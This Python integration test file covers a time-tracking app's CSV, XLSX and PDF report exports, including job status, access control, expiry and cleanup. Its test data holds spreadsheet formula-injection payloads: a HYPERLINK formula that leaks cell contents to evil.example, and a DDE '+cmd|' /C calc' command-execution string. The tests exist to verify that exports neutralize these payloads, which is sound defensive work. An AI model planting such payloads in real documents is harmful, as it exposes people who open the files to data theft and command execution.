"""Exports: 202 + job, status, download; CSV safe in spreadsheets, XLSX typed;
any member's text (control characters, emoji, CJK, formulas) exports in every format."""

from __future__ import annotations

import asyncio
import csv
import gc
import io
import sys
import tempfile
import uuid
from datetime import date, datetime, timedelta
from pathlib import Path

import pytest

from server.db.base import utcnow
from server.db.models import ExportJob
from server.reports.export import fail_stale, purge_expired, run_export
from tests.integration.reports.helpers import entry, make_team, minutes, person, sync, utc
from tests.support.api import Account, create_project, register

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


# A member's descriptions: (as typed, in the XLSX, in the CSV). The XLSX drops
# what a worksheet refuses (C0 controls but tab/LF/CR, U+FFFF); the CSV keeps
# the text and neutralizes formulas, also those hidden behind blanks.
HOSTILE = [
    ("bell\u0007 ring\x01\x1b\x1f\x0b\x0c done\uffff", "bell ring done", None),
    (EVIL, EVIL, "'" + EVIL),
    ("+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("@SUM(1+1)\x07", "@SUM(1+1)", "'@SUM(1+1)\x07"),
    (" \x07=1+1", " =1+1", "' \x07=1+1"),
    ("emoji 😀🎉 CJK:日本語 RTL:שלום\u200f", "emoji 😀🎉 CJK:日本語 RTL:שלום\u200f", None),
    ("page {nb} of {nb}", "page {nb} of {nb}", None),  # fpdf2's page-count alias
]
# Names: the person, the project (also the Group column), the task, the customer.
NAMES = {
    "Person": ("Eve\x07 Bell", "Eve Bell", None),
    "Project": ("Proj\x07ect 😀", "Project 😀", None),
    "Task": ("=Task\x1b", "=Task", "'=Task\x1b"),
    "Customer": ("\x07@Cust", "@Cust", "'\x07@Cust"),
}


async def _finished(acc: Account, job_id: str) -> dict:
    for _ in range(200):
        r = await acc.get(f"/api/v1/reports/exports/{job_id}")
        assert r.status_code == 200, r.text
        body = r.json()
        if body["status"] in ("DONE", "FAILED"):
            return body  # type: ignore[no-any-return]
        await asyncio.sleep(0.05)
    raise AssertionError("export did not finish")


async def _setup(client) -> tuple[Account, Account, Account, str]:
    owner = await register(client)
    ann = await person(owner, "Ann Analyst", "Europe/Berlin")
    bob = await person(owner, "-Bob", "UTC")  # a name that looks like a formula
    team_id = await make_team(owner, "Export team", [], [ann, bob])
    project = await create_project(owner, "+Project")
    # Berlin: 2026-01-12 09:00-11:30 local (08:00-10:30Z), half of it active.
    a = entry(utc(2026, 1, 12, 8, 0), utc(2026, 1, 12, 10, 30), project["id"], description=EVIL)
    await sync(ann, [a], minutes(a["idempotencyKey"], utc(2026, 1, 12, 8, 0), 150, 30))
    b = entry(utc(2026, 1, 13, 23, 0), utc(2026, 1, 14, 0, 45), description="@night shift")
    await sync(bob, [b])
    return owner, ann, bob, team_id


@pytest.fixture(scope="module")
async def hostile(client) -> Account:
    """An owner whose member typed everything above; the owner exports it all."""
    owner = await register(client, org_name="Hostile\x07 Org 中")
    eve = await person(owner, NAMES["Person"][0])
    r = await owner.post("/api/v1/customers", json={"name": NAMES["Customer"][0]})
    assert r.status_code == 201, r.text
    project = (
        await owner.post(
            "/api/v1/projects",
            json={"name": NAMES["Project"][0], "customerId": r.json()["id"]},
        )
    ).json()
    r = await owner.post(f"/api/v1/projects/{project['id']}/tasks", json={"name": NAMES["Task"][0]})
    assert r.status_code == 201, r.text
    task_id = r.json()["id"]
    entries = [
        entry(utc(2026, 2, 2, 8 + i), utc(2026, 2, 2, 8 + i, 30), project["id"], task_id,
              description=typed)
        for i, (typed, _xlsx, _csv) in enumerate(HOSTILE)
    ]  # fmt: skip
    await sync(eve, entries)
    return owner


async def _export(owner: Account, fmt: str) -> bytes:
    params = {"format": fmt, "from": "2026-02-02", "to": "2026-02-02", "groupBy": "project"}
    r = await owner.get("/api/v1/reports/export", params=params)
    assert r.status_code == 202, r.text
    done = await _finished(owner, r.json()["jobId"])
    assert done["status"] == "DONE" and done["rowCount"] == len(HOSTILE), done
    r = await owner.get(done["downloadUrl"])
    assert r.status_code == 200
    return r.content  # type: ignore[no-any-return]


async def test_xlsx_export_drops_what_worksheets_refuse(hostile: Account) -> None:
    import openpyxl

    sheet = openpyxl.load_workbook(io.BytesIO(await _export(hostile, "xlsx"))).active
    header = [c.value for c in sheet[1]]
    rows = [dict(zip(header, r, strict=True)) for r in sheet.iter_rows(min_row=2)]
    assert [r["Description"].value for r in rows] == [xlsx for _t, xlsx, _c in HOSTILE]
    for row in rows:
        assert row["Group"].value == NAMES["Project"][1]
        for column, (_typed, xlsx, _csv) in NAMES.items():
            assert row[column].value == xlsx, column
        for column in ("Group", "Description", *NAMES):
            assert row[column].data_type == "s", column  # text, never a formula


async def test_csv_export_neutralizes_hidden_formulas(hostile: Account) -> None:
    text = (await _export(hostile, "csv")).decode("utf-8-sig")
    header, *data = list(csv.reader(io.StringIO(text, newline="")))
    rows = [dict(zip(header, r, strict=True)) for r in data]
    assert [r["Description"] for r in rows] == [c or typed for typed, _x, c in HOSTILE]
    for row in rows:
        assert row["Group"] == NAMES["Project"][0]
        for column, (typed, _xlsx, neutral) in NAMES.items():
            assert row[column] == (neutral or typed), column


async def test_pdf_export_prints_any_text(hostile: Account) -> None:
    from pypdf import PdfReader

    data = await _export(hostile, "pdf")
    assert data.startswith(b"%PDF-") and len(data) > 5000
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)
    assert not set(text) & {chr(c) for c in (*range(9), *range(11, 32), 0x7F, 0xFFFF)}
    squashed = "".join(text.split())
    # What the font cannot draw prints as "?" (CJK, U+FFFF): it never vanishes.
    assert "HostileOrg?" in squashed and "CJK:???" in squashed
    assert "bellringdone?" in squashed and "EveBell" in squashed
    assert '=HYPERLINK("http://evil.example/' in squashed and "@SUM(1+1)" in squashed
    assert "=Task" in squashed and "+cmd|'/Ccalc'!A0" in squashed
    assert "page{nb}of{nb}" in squashed  # printed as typed, not as the page count
    assert squashed.endswith("-page1/1")  # the footer still has the page count


async def test_interrupted_xlsx_export_leaves_nothing_behind(
    hostile: Account, client, db, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """A job cancelled while rows stream (arq's job timeout, a worker shutting
    down) discards its workbook: no temp file is left (the job's or openpyxl's),
    nothing is stored, and collecting the workbook later logs nothing
    ("I/O operation on closed file")."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))  # both temp files land here
    unraisable: list[object] = []
    monkeypatch.setattr(sys, "unraisablehook", unraisable.append)
    async with db() as session:
        job = ExportJob(
            organization_id=uuid.UUID(hostile.org_id),
            requested_by=uuid.UUID(hostile.user_id),
            format="xlsx",
            params={"from": "2026-02-02", "to": "2026-02-02", "teamId": None, "groupBy": None},
            status="PENDING",
        )
        session.add(job)
        await session.commit()
        job_id = job.id
    storage = client.app.state.app_state.storage
    task = asyncio.create_task(run_export(db, storage, job_id))
    # openpyxl's temp file exists from the header on until the workbook is
    # saved: seeing it while the job waits means rows are streaming.
    while not any(tmp_path.glob("openpyxl.*")):
        assert not task.done(), task
        await asyncio.sleep(0)
    task.cancel()
    try:
        await task
    except asyncio.CancelledError:
        pass
    del task
    gc.collect()
    assert sorted(p.name for p in tmp_path.iterdir()) == []
    assert unraisable == []
    assert await storage.size(f"exports/{hostile.org_id}/{job_id}.xlsx") is None


async def test_csv_export_streams_and_neutralizes_formulas(client, db) -> None:
    owner, ann, _bob, team_id = await _setup(client)
    r = await owner.get(
        "/api/v1/reports/export",
        params={"format": "csv", "from": "2026-01-12", "to": "2026-01-13", "teamId": team_id},
    )
    assert r.status_code == 202, r.text
    job_id = r.json()["jobId"]
    assert r.headers["location"].endswith(f"/exports/{job_id}")
    done = await _finished(owner, job_id)
    assert done["status"] == "DONE" and done["rowCount"] == 2, done
    assert done["downloadUrl"] == f"/api/v1/reports/exports/{job_id}/download"
    r = await owner.get(done["downloadUrl"])
    assert r.status_code == 200
    assert r.headers["content-type"] == "text/csv; charset=utf-8"  # one charset, not two
    assert r.headers["x-content-type-options"] == "nosniff"
    assert "attachment" in r.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    header, *data = rows
    assert header[:4] == ["Date", "Person", "Email", "Project"]
    by_person = {row[1]: dict(zip(header, row, strict=True)) for row in data}
    annrow = by_person["Ann Analyst"]
    assert annrow["Date"] == "2026-01-12" and annrow["Start"] == "2026-01-12 09:00:00"
    assert annrow["Duration"] == "2:30:00" and annrow["Hours"] == "2.5"
    assert annrow["Active"] == "1:15:00" and annrow["Activity %"] == "50.0"
    assert annrow["Project"] == "'+Project"
    assert annrow["Description"] == "'" + EVIL
    bobrow = by_person["'-Bob"]  # the formula-like name is neutralized too
    assert bobrow["Description"] == "'@night shift" and bobrow["Duration"] == "1:45:00"
    assert bobrow["Time zone"] == "UTC"
    # Only the person who asked sees the job; another organization gets 404.
    assert (await ann.get(f"/api/v1/reports/exports/{job_id}")).status_code == 404
    assert (await ann.get(done["downloadUrl"])).status_code == 404
    stranger = await register(client, org_name="Else")
    assert (await stranger.get(f"/api/v1/reports/exports/{job_id}")).status_code == 404
    # After a week the file is deleted; the job says so and has no link. (The
    # app runs on the test client's own loop: use the test's sessions.)
    app_state = client.app.state.app_state
    key = f"exports/{owner.org_id}/{job_id}.csv"
    assert await app_state.storage.size(key) is not None
    assert await purge_expired(db, app_state.storage, utcnow() + timedelta(days=8)) >= 1
    assert await app_state.storage.size(key) is None
    expired = (await owner.get(f"/api/v1/reports/exports/{job_id}")).json()
    assert expired["downloadUrl"] is None and "export again" in expired["error"]
    assert (await owner.get(done["downloadUrl"])).status_code == 404


async def test_lost_jobs_are_marked_failed(client, db) -> None:
    owner = await register(client)
    async with db() as session:
        job = ExportJob(
            organization_id=uuid.UUID(owner.org_id),
            requested_by=uuid.UUID(owner.user_id),
            format="csv",
            params={"from": "2026-01-01", "to": "2026-01-02"},
            status="RUNNING",
            created_at=utcnow() - timedelta(hours=2),
        )
        session.add(job)
        await session.commit()
        job_id = str(job.id)
    assert await fail_stale(db, utcnow()) >= 1
    body = (await owner.get(f"/api/v1/reports/exports/{job_id}")).json()
    assert body["status"] == "FAILED" and "interrupted" in body["error"]


async def test_xlsx_export_has_real_types(client) -> None:
    import openpyxl

    _owner, ann, _bob, _team = await _setup(client)
    r = await ann.get(
        "/api/v1/reports/export",
        params={"format": "xlsx", "from": "2026-01-01", "to": "2026-01-31"},
    )
    assert r.status_code == 202
    done = await _finished(ann, r.json()["jobId"])
    assert done["status"] == "DONE" and done["rowCount"] == 1  # a MEMBER exports only self
    r = await ann.get(done["downloadUrl"])
    assert r.headers["content-type"].startswith("application/vnd.openxmlformats")
    sheet = openpyxl.load_workbook(io.BytesIO(r.content)).active
    header = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(header, sheet[2], strict=True)}
    assert isinstance(row["Date"].value, datetime) and row["Date"].value.date() == date(2026, 1, 12)
    assert row["Start"].value == datetime(2026, 1, 12, 9, 0)
    assert row["Duration"].value == timedelta(hours=2, minutes=30)
    assert row["Duration"].number_format == "[h]:mm:ss"
    assert row["Hours"].value == 2.5 and row["Activity %"].value == 50.0
    assert row["Description"].data_type == "s" and row["Description"].value == EVIL


async def test_export_bad_input(client) -> None:
    owner = await register(client)
    r = await owner.get("/api/v1/reports/export", params={"format": "docx"})
    assert r.status_code == 400 and "csv, xlsx or pdf" in r.json()["detail"]
    r = await owner.get("/api/v1/reports/export", params={"groupBy": "weekday"})
    assert r.status_code == 400 and "groupBy" in r.json()["detail"]
    r = await owner.get("/api/v1/reports/export", params={"from": "2026-02-01", "to": "2026-01-01"})
    assert r.status_code == 400
    assert (await owner.get("/api/v1/reports/exports/not-a-uuid")).status_code == 404
    r = await owner.get("/api/v1/reports/export")  # defaults: CSV of the last 7 days
    assert r.status_code == 202
    done = await _finished(owner, r.json()["jobId"])
    assert done["status"] == "DONE" and done["rowCount"] == 0
